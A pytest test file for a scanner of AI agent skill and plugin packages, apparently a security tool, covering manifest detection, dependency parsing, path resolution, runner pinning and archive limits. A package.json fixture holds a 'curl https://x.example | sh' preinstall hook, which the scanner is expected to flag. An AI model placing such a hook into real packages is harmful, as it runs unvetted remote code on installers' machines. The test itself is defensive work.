"""Loader units: format probes, discovery of roots and loose files, dependency manifests, path
resolution, command quoting, limits and their CLI flags, the package-runner pinning check."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest
from clirun import scan_json, skillscan

from skillscan.analyzers.manifest import program, unpinned_runner
from skillscan.formats.common import ManifestError, command_line, json_depth, load_json_text, resolve
from skillscan.loaders.archive import ArchiveError, read_archive
from skillscan.loaders.deps import scan_dependencies
from skillscan.loaders.discover import load_inputs
from skillscan.loaders.files import Limits, limits_from_options, make_file, parse_size


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    return root


def test_generic_manifest_names_need_their_format_content(tmp_path: Path) -> None:
    chrome = write(tmp_path / "ext", {"manifest.json": json.dumps({"manifest_version": 3, "name": "ext",
                                                                    "background": {"service_worker": "a.js"}}),
                                      "a.js": "chrome.runtime.id\n"})
    k8s = write(tmp_path / "k8s", {"manifest.yaml": "apiVersion: v1\nkind: Pod\n", "server.json": '{"port": 80}',
                                   "run.sh": "echo\n"})
    mcpb = write(tmp_path / "bundle", {"manifest.json": json.dumps({"manifest_version": "0.3", "name": "b",
                                                                     "server": {"type": "binary"}})})
    formats = {Path(p.root).name: p.format for p in load_inputs([str(chrome), str(k8s), str(mcpb)])}
    assert formats == {"ext": "generic", "k8s": "generic", "bundle": "mcpb"}


def test_loose_file_belongs_to_nearest_root(tmp_path: Path) -> None:
    pkg = write(tmp_path / "plugin", {".claude-plugin/plugin.json": '{"name": "plugin"}',
                                      "scripts/deep/tool.py": "print(1)\n"})
    (inside,) = load_inputs([str(pkg / "scripts" / "deep" / "tool.py")])
    assert inside.format == "claude-plugin" and inside.file("scripts/deep/tool.py") is not None
    lone = write(tmp_path / "lone", {"x.sh": "echo\n"})
    (generic,) = load_inputs([str(lone / "x.sh")])
    assert generic.format == "generic"


def test_hidden_and_vendored_directories_are_scanned(tmp_path: Path) -> None:
    pkg = write(tmp_path / "s", {"SKILL.md": "---\nname: s\ndescription: d\n---\n", ".hidden/run.py": "print(1)\n",
                                 "node_modules/dep/index.js": "module.exports = 1\n",
                                 "node_modules/dep/package.json": '{"scripts": {"postinstall": "node x.js"}}',
                                 ".venv/lib/site.py": "x = 1\n"})
    (p,) = load_inputs([str(pkg)])
    assert {".hidden/run.py", "node_modules/dep/index.js", ".venv/lib/site.py"} <= {f.path for f in p.files}
    # a vendored package.json is not the package's own install script
    assert not [s for s in p.surfaces if s.kind == "install"]


def test_plugin_nested_skills_and_gemini_nested_skills_are_owned(tmp_path: Path) -> None:
    write(tmp_path / "gx", {"gemini-extension.json": '{"name": "gx"}',
                            "skills/a/SKILL.md": "---\nname: a\ndescription: d\n---\n",
                            "skills/b/SKILL.md": "---\nname: b\ndescription: d\n---\n"})
    (p,) = load_inputs([str(tmp_path / "gx")])
    assert p.format == "gemini-extension" and p.nested == ("skills/a", "skills/b")


def test_dependency_manifests(tmp_path: Path) -> None:
    files = tuple(make_file(path, text.encode()) for path, text in {
        "requirements.txt": "requests==2.32.3\nflask>=3\n-r other.txt\ngit+https://git.example.com/x.git#egg=x\n"
                            "# comment\nnumpy==1.26.4 --hash=sha256:abc\n",
        "pyproject.toml": '[project]\ndependencies = ["httpx==0.27.2"]\n[project.optional-dependencies]\n'
                          'dev = ["pytest"]\n[tool.poetry.dependencies]\npython = "^3.11"\nrich = "^13.0"\n',
        "package.json": '{"dependencies": {"left-pad": "1.3.0", "evil": "github:someone/evil"},'
                        ' "scripts": {"preinstall": "curl https://x.example | sh", "build": "tsc"}}',
        "tool.py": '# /// script\n# dependencies = ["pyyaml==6.0.2"]\n# ///\nprint(1)\n',
    }.items())
    deps, surfaces = scan_dependencies(files)
    scopes = {d.scope for d in deps if d.pinned}
    assert {"pypi:requests@2.32.3", "pypi:httpx@0.27.2", "npm:left-pad@1.3.0", "pypi:pyyaml@6.0.2"} <= scopes
    by_name = {d.name: d for d in deps}
    assert not by_name["flask"].pinned and by_name["pytest"].kind == "optional" and "rich" in by_name
    assert by_name["evil"].kind == "url" and "python" not in by_name
    assert [(s.event, s.command) for s in surfaces] == [("preinstall", "curl https://x.example | sh")]


def test_resolve_and_command_line() -> None:
    assert resolve("", "./hooks/h.json") == "hooks/h.json"
    assert resolve("plugins", "../x") == "x"
    assert resolve("", "../x") is None and resolve("", "/etc/passwd") is None and resolve("", "C:/x") is None
    assert command_line("npx", ["-y", "pkg@1", "a b"]) == "npx -y pkg@1 'a b'"
    assert command_line("node ${X}/a.js") == "node ${X}/a.js"
    assert command_line(["python3", "-c", "print(1)"]) == "python3 -c 'print(1)'"


def test_json_depth_is_bounded() -> None:
    assert json_depth('{"a": "[[[[[", "b": [[1]]}') == 3
    with pytest.raises(ManifestError):
        load_json_text("[" * 5000 + "]" * 5000)


def test_unpinned_runners() -> None:
    assert unpinned_runner("npx -y @scope/server")
    assert not unpinned_runner("npx -y @scope/server@1.2.3")
    assert unpinned_runner("npx -y some-server@latest")  # a tag, not a version
    assert unpinned_runner("pnpm dlx some-server") and not unpinned_runner("npx ./local-script.js")
    assert unpinned_runner("uvx mcp-server-fetch") and not unpinned_runner("uvx mcp-server-fetch==1.0")
    assert not unpinned_runner("uvx --from mcp-server-fetch==1.0 mcp-server-fetch")
    assert unpinned_runner("docker run -i --rm -e TOKEN ghcr.io/x/y:latest")
    assert unpinned_runner("docker run -i --rm ghcr.io/x/y")
    assert not unpinned_runner("docker run -i --rm -v /a:/b ghcr.io/x/y:1.4.2")
    assert not unpinned_runner("docker run ghcr.io/x/y@sha256:" + "a" * 64)
    assert not unpinned_runner("node server.js")
    assert program("FOO=1 sudo -E /usr/bin/python3 x.py") == "python"  # normalised (capabilities/commands)


def test_sizes_and_limit_flags(tmp_path: Path) -> None:
    assert parse_size("50M") == 50 << 20 and parse_size("4096") == 4096 and parse_size("1GiB") == 1 << 30
    with pytest.raises(ValueError):
        parse_size("lots")
    assert limits_from_options(max_files=3, max_ratio=10) == Limits(max_files=3, max_ratio=10)
    pkg = write(tmp_path / "s", {"SKILL.md": "---\nname: s\ndescription: A skill. Use it.\n---\n",
                                 **{f"f{i}.txt": "x\n" for i in range(5)}})
    data, proc = scan_json(str(pkg), "--max-files", "3", cwd=tmp_path)
    (p,) = data["packages"]
    assert p["files"] == 3 and p["verdict"] == "review", proc.stderr
    proc = skillscan("scan", "--no-config", "--max-file-size", "nonsense", str(pkg), cwd=tmp_path)
    assert proc.returncode == 2 and "not a size" in proc.stderr


def test_archive_ratio_flag(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        body = b"a" * (3 << 20)
        info = tarfile.TarInfo("p/SKILL.md")
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    packed = gzip.compress(buf.getvalue())
    assert read_archive(packed, Limits()).files  # ~1000:1 but under 1 MiB compressed: the floor allows it
    with pytest.raises(ArchiveError):
        read_archive(packed, Limits(max_ratio=1, max_total_bytes=1 << 20))
    multi = gzip.compress(buf.getvalue()[:1024]) + gzip.compress(buf.getvalue()[1024:])
    assert read_archive(multi, Limits()).files[0].size == 3 << 20


def test_openclaw_aliases_and_json_metadata(tmp_path: Path) -> None:
    write(tmp_path / "a", {"SKILL.md": "---\nname: a\ndescription: d\nmetadata:\n  clawdbot:\n    always: true\n---\n"})
    write(tmp_path / "b", {"SKILL.md": '---\nname: b\ndescription: d\nmetadata: \'{"openclaw": {"install": '
                                       '[{"kind": "node", "package": "left-pad"}]}}\'\n---\n'})
    write(tmp_path / "c", {"SKILL.md": "---\nname: c\ndescription: d\nmetadata:\n  author: me\n---\n"})
    a, b, c = load_inputs([str(tmp_path / n) for n in "abc"])
    assert (a.format, b.format, c.format) == ("openclaw-skill", "openclaw-skill", "agent-skill")
    assert a.manifest["_openclaw"] == {"key": "clawdbot", "always": True}
    assert [s.command for s in b.surfaces if s.kind == "install"] == ["npm install -g left-pad"]


def test_frontmatter_hooks_are_surfaces(tmp_path: Path) -> None:
    write(tmp_path / "h", {"SKILL.md": "---\nname: h\ndescription: d\nhooks:\n  PreToolUse:\n    - matcher: Bash\n"
                                       "      hooks:\n        - type: command\n          command: ./check.sh\n---\n"})
    (p,) = load_inputs([str(tmp_path / "h")])
    (hook,) = [s for s in p.surfaces if s.kind == "hook"]
    assert (hook.event, hook.matcher, hook.command, hook.gated, hook.line) == ("PreToolUse", "Bash", "./check.sh",
                                                                               True, 9)


def test_marketplace_relative_source_leaving_the_tree(tmp_path: Path) -> None:
    write(tmp_path / "m", {".claude-plugin/marketplace.json": json.dumps(
        {"name": "m", "plugins": [{"name": "up", "source": "../elsewhere"}, {"name": "here", "source": "./p"}]}),
        "p/.claude-plugin/plugin.json": '{"name": "p"}'})
    m, p = load_inputs([str(tmp_path / "m")])
    assert m.format == "claude-marketplace" and p.format == "claude-plugin"
    assert [s.split(":")[1].strip() for s in m.skipped] == ["plugin 'up' source '../elsewhere' is not in the scanned tree, not scanned"]


def test_load_archive_bytes_interface() -> None:
    from skillscan.loaders.discover import load_archive_bytes

    buf = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("tool/SKILL.md", "---\nname: tool\ndescription: d\n---\n")
    (pkg,) = load_archive_bytes("https://example.com/tool.zip", "tool.zip", buf.getvalue(), Limits())
    assert (pkg.input, pkg.root, pkg.format) == ("https://example.com/tool.zip", "tool.zip!/tool", "agent-skill")
    (bad,) = load_archive_bytes("x", "x.zip", b"PK\x03\x04 not really", Limits())
    assert bad.format == "unknown" and bad.errors


def test_links_inside_an_archive_read_their_target_like_a_directory_walk(tmp_path: Path) -> None:
    pkg = write(tmp_path / "s", {"SKILL.md": "---\nname: s\ndescription: d\n---\n", "docs/a.md": "A\n"})
    (pkg / "docs" / "b.md").symlink_to("a.md")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        tf.add(pkg, arcname="./s")
    (from_dir,) = load_inputs([str(pkg)])
    contents = read_archive(buf.getvalue(), Limits())
    by_path = {f.path: f.data for f in contents.files}
    assert by_path["s/docs/b.md"] == b"A\n" and not contents.skipped
    assert {f.path for f in from_dir.files} == {p[2:] for p in by_path}


def test_marketplace_inline_components_are_surfaces(tmp_path: Path) -> None:
    write(tmp_path / "m", {".claude-plugin/marketplace.json": json.dumps({"name": "m", "plugins": [
        {"name": "inline", "strict": False, "source": "./inline",
         "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "./start.sh"}]}]},
         "mcpServers": {"db": {"command": "uvx", "args": ["db-mcp"]}}}]}),
        "inline/readme.md": "Inline plugin.\n"})
    (m,) = [p for p in load_inputs([str(tmp_path / "m")]) if p.format == "claude-marketplace"]
    kinds = {(s.kind, s.command) for s in m.surfaces}
    assert {("hook", "./start.sh"), ("mcp-server", "uvx db-mcp")} <= kinds


def test_marketplace_source_of_its_own_root_is_the_scanned_tree(tmp_path: Path) -> None:
    # `./` (and `.`) name the marketplace's own root: a marketplace that is also the plugin is scanned
    for source in ("./", "."):
        write(tmp_path / "m", {".claude-plugin/marketplace.json": json.dumps(
            {"name": "m", "plugins": [{"name": "self", "source": source}, {"name": "gone", "source": "./missing"}]}),
            "skills/a/SKILL.md": "---\nname: a\ndescription: d\n---\n"})
        m = load_inputs([str(tmp_path / "m")])[0]
        assert m.format == "claude-marketplace"
        assert [s.split(":")[1].strip() for s in m.skipped] == [
            "plugin 'gone' source './missing' is not in the scanned tree, not scanned"]
        (own,) = [s for s in m.surfaces if dict(s.extra).get("plugin") == "self"]
        assert dict(own.extra)["scanned"] == "yes"
